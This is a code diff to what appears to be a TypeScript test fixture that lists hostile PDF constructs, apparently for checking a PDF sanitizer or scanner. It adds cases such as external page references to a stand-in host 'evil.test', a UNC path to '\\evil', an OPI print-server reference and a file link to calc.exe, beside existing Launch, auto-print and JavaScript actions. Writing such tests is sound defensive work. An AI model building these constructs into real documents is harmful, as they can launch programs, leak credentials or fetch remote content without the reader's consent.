@@ -7,6 +7,7 @@ const JS = '<< /S /JavaScript /JS (app.alert(1)) >>'
 const FILE: PdfBody = { entries: '/Type /EmbeddedFile', data: Buffer.from('MZ') }
 const FILESPEC = `<< /Type /Filespec /F (a.exe) /EF << /F ${X} >> >>`
 
+const form = { entries: '/Type /XObject /Subtype /Form /BBox [0 0 9 9]', data: Buffer.from('q Q') }
 const annotation = (entries: string) => `/Annots [<< /Type /Annot /Rect [0 0 50 50] ${entries} >>]`
 const field = (entries: string) =>
   `/AcroForm << /Fields [<< /FT /Tx /T (a) /Subtype /Widget /Rect [0 0 9 9] ${entries} >>] >>`
@@ -28,6 +29,10 @@ const payloads: Record<string, Record<string, PdfSpec>> = {
     'chained-after-a-page': {
       catalog: '/OpenAction << /S /GoTo /D [4 0 R /Fit] /Next << /S /Launch /F (a.exe) >> >>',
     },
+    'address-as-object': {
+      page: annotation(`/Subtype /Link /A << /S /URI /URI ${X} >>`),
+      extra: ['(file:///c:/windows/system32/calc.exe)'],
+    },
     'file-address': { page: annotation('/Subtype /Link /A << /S /URI /URI (file:///c:/windows/system32/calc.exe) >>') },
   },
   'PDF that acts by itself': {
@@ -36,6 +41,16 @@ const payloads: Record<string, Record<string, PdfSpec>> = {
     'prints-on-opening': { catalog: `/OpenAction ${X}`, extra: ['<< /S /Named /N /Print >>'] },
     'on-closing': { catalog: '/AA << /WC << /S /Named /N /SaveAs >> >>' },
     'on-page': { page: '/AA << /C << /S /URI /URI (http://evil.test) >> >>' },
+    'article-of-another-file': { page: annotation('/Subtype /Link /A << /S /Thread /F (a.pdf) /D 0 >>') },
+    'page-of-another-file': {
+      extra: [{ ...form, entries: `${form.entries} /Ref << /F (http://evil.test/a.pdf) /Page 0 >>` }],
+    },
+    'page-of-another-file-as-object': {
+      extra: [{ ...form, entries: `${form.entries} /Ref ${Y}` }, '<< /F (\\\\\\\\evil\\\\a.pdf) /Page 0 >>'],
+    },
+    'picture-of-a-print-server': {
+      extra: [{ ...form, entries: `${form.entries} /OPI << /2.0 << /F (http://evil.test/a) >> >>` }],
+    },
     'content-elsewhere': {
       contentStream: { entries: '/F (http://evil.test/content) /FFilter /FlateDecode', data: Buffer.alloc(0) },
     },
